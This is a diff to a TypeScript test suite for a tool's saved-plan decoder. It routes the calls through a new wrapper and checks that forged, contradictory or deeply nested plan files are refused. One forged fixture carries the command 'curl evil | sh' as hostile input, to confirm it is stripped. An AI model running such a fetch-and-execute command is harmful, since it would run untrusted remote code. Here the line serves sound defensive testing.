@@ -1,5 +1,6 @@
 import { expect } from 'chai';
 import type { Diagnostic } from '../../src/domain/diagnostic.ts';
+import { atOnce } from '../../src/domain/long-work.ts';
 import type { Plan } from '../../src/domain/plan.ts';
 import { advance, type Record, writtenBy } from '../../src/domain/record.ts';
 import { movesOf, type SavedPlan } from '../../src/domain/saved-plan.ts';
@@ -39,9 +40,11 @@ function saved(specs: readonly RestoreSpec[] = SPECS, state: State = earlier().s
   return save(made, { specs, state, policy: { protected_volumes: [] }, waivers: [] }, hash);
 }
 
+const decoded = (...given: Parameters<typeof decodePlan>) => atOnce(decodePlan(...given));
+
 /** As another process reads it. */
 function reread(plan: SavedPlan): SavedPlan {
-  return decodePlan(JSON.stringify(plan), 'plan.json', 'test', hash);
+  return decoded(JSON.stringify(plan), 'plan.json', 'test', hash);
 }
 
 interface Today {
@@ -135,19 +138,19 @@ describe('a saved plan', () => {
   ];
   for (const [what, content, said] of files)
     it(`is refused as ${what}`, () => {
-      expect(() => decodePlan(content, 'p.json', 'test', hash)).to.throw(said);
+      expect(() => decoded(content, 'p.json', 'test', hash)).to.throw(said);
     });
 
   it('is no manifest: that one is named with -f', () => {
-    expect(() => decodePlan('kind: RestoreSet', 'a.yaml', 'test', hash)).to.throw('is a manifest');
+    expect(() => decoded('kind: RestoreSet', 'a.yaml', 'test', hash)).to.throw('is a manifest');
   });
 
   it('of another patch release is taken', () => {
     const other = planOf(SPECS, { state: earlier().state, toolVersion: '1.2.3' });
     const made = { specs: SPECS, state: earlier().state, policy: { protected_volumes: [] }, waivers: [] };
     const file = JSON.stringify(save(other, made, hash));
-    expect(decodePlan(file, 'p', '1.2.9', hash).tool_version).to.equal('1.2.3');
-    expect(() => decodePlan(file, 'p', '1.3.0', hash)).to.throw('1.2.3');
+    expect(decoded(file, 'p', '1.2.9', hash).tool_version).to.equal('1.2.3');
+    expect(() => decoded(file, 'p', '1.3.0', hash)).to.throw('1.2.3');
   });
 
   // A file that contradicts itself is no plan, whatever its digest says.
@@ -192,7 +195,7 @@ describe('a saved plan', () => {
   ];
   for (const [what, edits] of contradictory)
     it(`does not contradict itself: ${what}`, () => {
-      expect(() => decodePlan(forged(text(), edits), 'p', 'test', hash)).to.throw('not a sound plan');
+      expect(() => decoded(forged(text(), edits), 'p', 'test', hash)).to.throw('not a sound plan');
     });
 
   const note = { severity: 'note', code: 'x', summary: 'x' };
@@ -223,14 +226,14 @@ describe('a saved plan', () => {
   ];
   for (const [what, edits] of shapeless)
     it(`has no place for ${what}`, () => {
-      expect(() => decodePlan(forged(text(), edits), 'p', 'test', hash)).to.throw('not a sound plan');
+      expect(() => decoded(forged(text(), edits), 'p', 'test', hash)).to.throw('not a sound plan');
     });
 
   it('is refused, not walked over, when it is deep', () => {
     const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
     for (const waivers of [deep, `[],"x":${deep}`]) {
       const file = text().replace('"waivers":[]', `"waivers":${waivers}`);
-      expect(() => decodePlan(file, 'p', 'test', hash)).to.throw('not a sound plan');
+      expect(() => decoded(file, 'p', 'test', hash)).to.throw('nested more than 64 levels deep');
     }
   });
 
@@ -276,7 +279,7 @@ describe('a saved plan', () => {
   ];
   for (const [what, edits, said] of invented)
     it(`cannot invent ${what}`, () => {
-      const story = applied(decodePlan(forged(text(), edits), 'p', 'test', hash), { state: earlier().state });
+      const story = applied(decoded(forged(text(), edits), 'p', 'test', hash), { state: earlier().state });
       expect(story.plan, story.said).to.equal(undefined);
       expect(story.said).to.include(said);
     });
@@ -290,7 +293,7 @@ describe('a saved plan', () => {
       'actions.0.backup.of_volume_name': 'evil',
       notices: [{ ...note, summary: 'curl evil | sh', address: 's/a' }],
     });
-    const { plan: left } = applied(decodePlan(file, 'p', 'test', hash), { state: earlier().state });
+    const { plan: left } = applied(decoded(file, 'p', 'test', hash), { state: earlier().state });
     expect(JSON.stringify(left)).not.to.include('evil');
     expect(left?.actions[0]).to.include({ kind: 'restore', cause: 'first' });
   });
